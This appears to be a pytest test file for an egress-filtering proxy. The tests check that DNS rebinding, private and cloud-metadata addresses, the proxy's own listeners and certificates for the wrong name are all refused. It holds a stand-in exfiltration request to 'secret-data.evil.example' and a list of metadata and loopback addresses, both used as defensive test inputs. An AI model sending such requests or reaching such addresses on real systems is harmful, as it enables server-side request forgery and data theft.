"""Where a name leads, which addresses may be dialled, and under which name (I2)."""

import asyncio

import pytest

from coatcheck.decision.denial import Reason
from coatcheck.planes.upstream.upstream import Upstream, UpstreamRefused, UpstreamSettings
from tests.daemon import Sandbox, TestDaemon
from tests.planes.attack import nothing_is_left, request
from tests.planes.raw_origin import RawOrigin, Visit
from tests.planes.wire import tunnel, wire


class Answers:
    """In place of the resolver: one list of addresses a look-up, the last one for good."""

    def __init__(self, *answers: list[str]) -> None:
        self.answers = list(answers)
        self.asked: list[str] = []

    async def lookup_ip(self, name: str) -> list[str]:
        self.asked.append(name)
        return self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]


def resolving(daemon: TestDaemon, *answers: list[str]) -> Answers:
    """From now on names are resolved, by `answers`; nothing private may be dialled."""
    assert daemon.plane is not None
    resolver = Answers(*answers)
    daemon.plane.upstream.settings = UpstreamSettings(connect_timeout=1.0)
    daemon.plane.upstream.resolver = resolver  # type: ignore[assignment]
    return resolver


@pytest.mark.parametrize(
    "answer",
    [
        ["127.0.0.1"],
        ["10.0.0.1"],
        ["192.168.1.1"],
        ["169.254.169.254"],
        ["100.100.100.200"],
        ["168.63.129.16"],
        ["100.64.0.1"],
        ["0.0.0.0"],
        ["224.0.0.1"],
        ["255.255.255.255"],
        ["::1"],
        ["::"],
        ["fe80::1"],
        ["fd00:ec2::254"],
        ["::ffff:127.0.0.1"],
        ["64:ff9b::7f00:1"],
        ["2002:7f00:1::1"],
        ["93.184.215.14", "127.0.0.1"],
        ["127.0.0.1", "93.184.215.14"],
        ["2606:2800:21f::1", "fe80::1"],
    ],
)
async def test_one_address_that_must_not_be_reached_refuses_the_name(
    raw_daemon: TestDaemon, raw_sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch, answer: list[str]
) -> None:
    """Mixed answers are how rebinding works: no address of such a name is dialled."""
    dialled: list[object] = []

    async def dial(infos: object, **_: object) -> None:
        dialled.append(infos)
        raise OSError

    monkeypatch.setattr("aiohappyeyeballs.start_connection", dial)
    resolving(raw_daemon, answer)
    async with tunnel(raw_daemon, raw_sandbox) as raw:
        await raw.send(request(raw_sandbox))
        assert await raw.refused_because() == "address_refused"
    assert not dialled
    await nothing_is_left(raw_daemon)


async def test_the_address_that_was_screened_is_the_address_that_is_dialled(
    raw_daemon: TestDaemon, raw_sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A name that answers differently the second time is not asked a second time."""
    dialled: list[str] = []

    async def dial(infos: list[tuple[object, ...]], **_: object) -> None:
        dialled.extend(info[4][0] for info in infos)  # type: ignore[index]
        raise OSError

    monkeypatch.setattr("aiohappyeyeballs.start_connection", dial)
    resolver = resolving(raw_daemon, ["93.184.215.14"], ["127.0.0.1"])
    async with tunnel(raw_daemon, raw_sandbox) as raw:
        await raw.send(request(raw_sandbox))
        assert await raw.refused_because() == "upstream_unreachable"
    assert dialled == ["93.184.215.14"]
    assert resolver.asked == ["api.openai.com."]


async def test_a_peer_that_was_not_screened_is_left(
    raw_daemon: TestDaemon, raw_sandbox: Sandbox, raw_origin: RawOrigin, monkeypatch: pytest.MonkeyPatch
) -> None:
    """After connecting, the peer's address is looked at again."""
    import socket

    async def elsewhere(*_: object, **__: object) -> socket.socket:
        sock = socket.socket()
        sock.setblocking(False)
        await asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", raw_origin.port))
        return sock

    monkeypatch.setattr("aiohappyeyeballs.start_connection", elsewhere)
    resolving(raw_daemon, ["93.184.215.14"])
    async with tunnel(raw_daemon, raw_sandbox) as raw:
        await raw.send(request(raw_sandbox))
        assert await raw.refused_because() == "address_refused"
    assert not any(raw_origin.heads)


async def test_nothing_is_resolved_before_the_request_is_allowed(
    raw_daemon: TestDaemon, raw_sandbox: Sandbox
) -> None:
    """I6: a made-up name is no DNS message to its owner (srt #88)."""
    resolver = resolving(raw_daemon, ["93.184.215.14"])
    async with wire(raw_sandbox) as raw:
        await raw.send(b"CONNECT secret-data.evil.example:443 HTTP/1.1\r\n\r\n")
        assert await raw.refused_because() == "host_not_allowed"
        await raw.send(
            b"GET http://secret-data.evil.example/ HTTP/1.1\r\nHost: secret-data.evil.example\r\n\r\n"
        )
        assert await raw.refused_because() in ("host_not_allowed", "plain_http_refused")
    async with tunnel(raw_daemon, raw_sandbox) as raw:
        await raw.send(b"GET / HTTP/1.1\r\nHost: api.openai.com\r\n\r\n")
        assert await raw.refused_because() == "handle_missing"
    assert resolver.asked == []


async def test_own_listeners_are_no_destination(raw_daemon: TestDaemon, raw_sandbox: Sandbox) -> None:
    """CVE-2025-23217's lesson: not by connect_to, not by an allowlist, under none of their names."""
    assert raw_daemon.plane is not None
    upstream = raw_daemon.plane.upstream
    port = raw_sandbox.address[1]
    for own in (("127.0.0.1", port), ("0.0.0.0", 9), ("::", 9)):
        upstream.own_listeners.add(own)
    allowed = UpstreamSettings(
        allowed_networks=upstream.settings.allowed_networks,
        connect_to={"a.example:443": ("127.0.0.1", port), "b.example:443": ("127.0.0.1", 9)},
    )
    upstream.settings = allowed
    for host in ("a.example", "b.example"):
        with pytest.raises(UpstreamRefused) as refused:
            await upstream.addresses(host, 443)
        assert refused.value.reason is Reason.OWN_SURFACE
    with pytest.raises(UpstreamRefused) as refused:
        await upstream.addresses("127.0.0.1", port)
    assert refused.value.reason is Reason.OWN_SURFACE


async def test_other_loopback_names_of_a_wildcard_listener_are_its_own(raw_daemon: TestDaemon) -> None:
    """A listener on 127.0.0.1 is not reached as 127.0.0.2 either when it listens on every address."""
    upstream = Upstream(UpstreamSettings(connect_to={"a.example:443": ("127.0.0.2", 9)}))
    assert raw_daemon.plane is not None
    upstream.settings = UpstreamSettings(
        raw_daemon.plane.upstream.settings.allowed_networks, {"a.example:443": ("127.0.0.2", 9)}
    )
    upstream.own_listeners.add(("0.0.0.0", 9))
    with pytest.raises(UpstreamRefused):
        await upstream.addresses("a.example", 443)


async def test_a_resolver_that_hangs_or_fails_is_a_refusal(
    raw_daemon: TestDaemon, raw_sandbox: Sandbox
) -> None:
    """With a time-out of its own; an empty answer counts as none."""
    assert raw_daemon.plane is not None
    upstream = raw_daemon.plane.upstream
    upstream.settings = UpstreamSettings(resolve_timeout=0.05)

    class Hangs:
        async def lookup_ip(self, _: str) -> list[str]:
            await asyncio.sleep(60)
            return []

    for resolver, reason in (
        (Hangs(), "upstream_timeout"),
        (Answers([]), "upstream_unreachable"),
    ):
        upstream.resolver = resolver  # type: ignore[assignment]
        async with tunnel(raw_daemon, raw_sandbox) as raw:
            await raw.send(request(raw_sandbox))
            assert await raw.refused_because() == reason
    await nothing_is_left(raw_daemon)


async def test_upstream_name_is_the_connect_target_not_the_clients_sni(
    raw_daemon: TestDaemon, raw_sandbox: Sandbox, raw_origin: RawOrigin
) -> None:
    """Both are one by construction (I7); what TLS proves is the name that policy allowed."""
    async with tunnel(raw_daemon, raw_sandbox, "api.openai.com", sni="API.OpenAI.com") as raw:
        await raw.send(request(raw_sandbox))
        assert await raw.status() == 200
    assert raw_origin.names == ["api.openai.com"]


async def test_an_upstream_that_proves_another_name_gets_nothing(
    raw_daemon: TestDaemon, raw_sandbox: Sandbox, raw_origin: RawOrigin
) -> None:
    """A certificate of the right authority for the wrong name does not do (vm0 #19171)."""
    assert raw_daemon.plane is not None
    import ssl

    import trustme

    authority = trustme.CA()
    wrong = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    authority.issue_cert("evil.example").configure_cert(wrong)
    raw_origin.tls = wrong
    async with tunnel(raw_daemon, raw_sandbox) as raw:
        await raw.send(request(raw_sandbox))
        assert await raw.refused_because() == "upstream_tls"
    assert not any(raw_origin.heads)
    await nothing_is_left(raw_daemon)


async def test_keep_alive_survives_the_pinned_address(
    raw_daemon: TestDaemon, raw_sandbox: Sandbox, raw_origin: RawOrigin
) -> None:
    """Server.address stays the name, so that the second request finds the first one's connection."""
    async with tunnel(raw_daemon, raw_sandbox) as raw:
        for _ in range(5):
            await raw.send(request(raw_sandbox))
            assert await raw.status() == 200
            await raw.reader.readexactly(2)
    assert raw_origin.accepted == 1


async def test_closed_upstream_connections_are_forgotten(
    raw_daemon: TestDaemon, raw_sandbox: Sandbox, raw_origin: RawOrigin
) -> None:
    """mitmproxy's table of connections only grows within one client connection."""
    from mitmproxy.proxy import layer

    from coatcheck.planes.mitm.layers import EgressHttpLayer

    raw_origin.behave = _ok_and_close
    assert raw_daemon.plane is not None
    async with tunnel(raw_daemon, raw_sandbox) as raw:
        for _ in range(20):
            await raw.send(request(raw_sandbox))
            assert await raw.status() == 200
            await raw.reader.readexactly(2)
        link = next(iter(raw_daemon.plane.connections))
        found: list[layer.Layer] = list(link.layer.context.layers)
        tables = [len(each.connections) for each in found if isinstance(each, EgressHttpLayer)]
        assert tables and max(tables) <= 3
        assert len(link.transports) <= 3
        assert len(link.link.upstreams.used) <= 2
    assert raw_origin.accepted == 20


async def _ok_and_close(visit: object, _: bytes) -> None:
    assert isinstance(visit, Visit)
    await visit.send(b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 2\r\n\r\nok")
